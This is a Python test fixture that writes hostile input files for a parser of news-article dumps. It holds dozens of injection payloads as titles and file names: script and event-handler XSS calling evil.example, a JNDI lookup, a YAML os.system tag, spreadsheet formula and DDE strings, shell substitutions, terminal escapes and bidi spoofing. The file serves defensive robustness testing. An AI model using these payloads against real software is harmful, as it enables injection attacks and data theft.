"""Hostile files of our own making, with what must happen to each: ``python tests/hostile/cases.py DIR`` writes them.

What is hostile in `TITLES` stands in the title of the first of two articles, and has to stand in the title of a record,
byte for byte. `ERRORS` have to be refused, with the code that says why. `NAMES` are names of files.
"""

from __future__ import annotations

import gzip
import sys
from pathlib import Path

BODY = (
    "The harbour office said on Monday that the ferry would sail again, once its engine had been mended.\n"
    "Nobody on board was hurt, it added, and all passengers had reached the island in the evening.\n"
)
SECOND = "Bridge opens to traffic again\nMoorbach Courier | 14 November 2024\n\n"

#: What stands in a title, by group.
TITLES: dict[str, list[str]] = {
    "terminal": [
        "\x1b[2J\x1b[1;31mRed\x1b[0m tide reaches the bay",
        "\x1b]8;;https://evil.example\x07Link\x1b]8;;\x07 to the island opens",
        "\x1bP1$r0m\x1b\\Device strings in the harbour",
        "\x9b31mEight-bit sequences in the harbour",
        "Back\x08\x08\x08\x08Front of the harbour",
        "Bell \x07 rings in the harbour",
    ],
    "html": [
        "<script>document.title='pwned'</script> Ferry sails",
        "<img src=https://evil.example/x.png onerror=alert(1)> Ferry sails",
        "<svg/onload=fetch('https://evil.example')> Ferry sails",
        "</script><script>document.title='pwned'</script> Ferry sails",
        "<iframe srcdoc='<script>top.document.title=1</script>'></iframe> Ferry sails",
        "<base href='https://evil.example/'> Ferry sails",
        "<link rel=stylesheet href=https://evil.example/x.css> Ferry sails",
        "<meta http-equiv=refresh content='0;url=https://evil.example'> Ferry sails",
        "<!-- <b> Ferry sails",
        "</title></style></textarea></noscript> Ferry sails",
        "&lt;b&gt;&#x3c;b&#x3e; Ferry & ferry sail",
        "javascript:alert(1) Ferry sails",
    ],
    "markdown": [
        "![x](https://evil.example/x.png) Ferry sails",
        "[click](javascript:alert(1)) Ferry sails",
        "``` Ferry sails",
        "| a | b | Ferry sails",
        "# Heading of the ferry",
        "--- Ferry sails",
        "<https://evil.example> Ferry sails",
        "@everyone #1 :smile: $x^2$ Ferry sails",
    ],
    "yaml": [
        "key: [value, *alias] Ferry sails",
        "&anchor !!python/object/apply:os.system ['id'] Ferry",
        "%YAML 1.2 Ferry sails",
        "{a: b} # Ferry sails",
        "'quoted\" Ferry: sails",
    ],
    "tables": [
        '=HYPERLINK("https://evil.example","Ferry sails")',
        "+1+1 Ferry sails",
        "-2+3+cmd|' /C calc'!A0 Ferry",
        "@SUM(1+1) Ferry sails",
        'Ferry "sails", again; and\tagain',
    ],
    "logs": [
        "::error file=x::Ferry sails",
        "##[error]Ferry sails",
        "##vso[task.setvariable variable=x]Ferry sails",
        "]]> Ferry sails <![CDATA[",
        "%s %n {0.__class__} ${jndi:ldap://evil.example} {{7*7}} Ferry",
        '{"id": 1, "title": "Ferry sails"}',
        "$(touch pwned) `touch pwned` Ferry sails",
    ],
    "direction": [
        "Safe \u202etxt.exe\u202c of the ferry",
        "Ferry \u2066sails\u2069 \u200bagain\u2060 \u00adtoday",
        "Ferry \U000e0041\U000e0042 sails with tags",
        "F\u0456rry s\u0430ils with letters of others",
    ],
    "unicode": [
        "Ferry \ufffd sails",
        "Ferry e\u0301\u0301\u0301\u0301 sails with marks",
        "Ferry \U0001f6a2\u200d\U0001f30a sails",
        "Ferry \ufdfa\ufdd0\U0001fffe sails",
    ],
}

#: Names of files that end up in paths, pages, sums and messages.
NAMES: list[bytes] = [
    b"-rf.txt",
    b"a\nb.txt",
    b"\x1b]0;pwned\x07.txt",
    b"\xff\xfe.txt",
    b"<script>document.title='pwned'<script>.txt",
    b"a b'\"$(id)`id`.txt",
    b"[x](javascript:alert(1)).txt",
    b"=1+1.txt",
    b"::error::x.txt",
    "abc\u202etxt.exe.txt".encode(),
    b"key: value #.txt",
]

#: Files that are no dump of articles, with the code of the error.
ERRORS: dict[str, tuple[bytes, str]] = {
    "empty.txt": (b"", "no-articles"),
    "blank.txt": (b"\n \t\n" * 1000, "no-articles"),
    "damaged.txt": ("Überfahrt\n".encode() * 20 + b"\xe2\x82\n" + b"x\n", "undecodable"),
    "surrogate.txt": ("Überfahrt\n".encode() * 20 + b"\xed\xa0\x80\n", "undecodable"),
    "picture.txt": (b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + bytes(range(256)) * 8, "not-text"),
    "program.txt": (b"\x7fELF\x02\x01\x01\0" + bytes(range(256)) * 8, "not-text"),
    "cut.gz": (gzip.compress(BODY.encode() * 50, mtime=0)[:-20], "archive-broken"),
}


def text(title: str) -> bytes:
    """Two articles, the first under a hostile title."""
    return f"{title}\nHarbour Post | 12 November 2024\n\n{BODY}\n\n{SECOND}{BODY}".encode()


def texts() -> dict[str, tuple[str, bytes]]:
    """File name → title and content."""
    return {
        f"{group}-{number:02}.txt": (title, text(title))
        for group, titles in TITLES.items()
        for number, title in enumerate(titles)
    }


def main(folder: Path) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    for name, (_, data) in texts().items():
        (folder / name).write_bytes(data)
    for name, (data, _) in ERRORS.items():
        (folder / name).write_bytes(data)


if __name__ == "__main__":
    main(Path(sys.argv[1]))
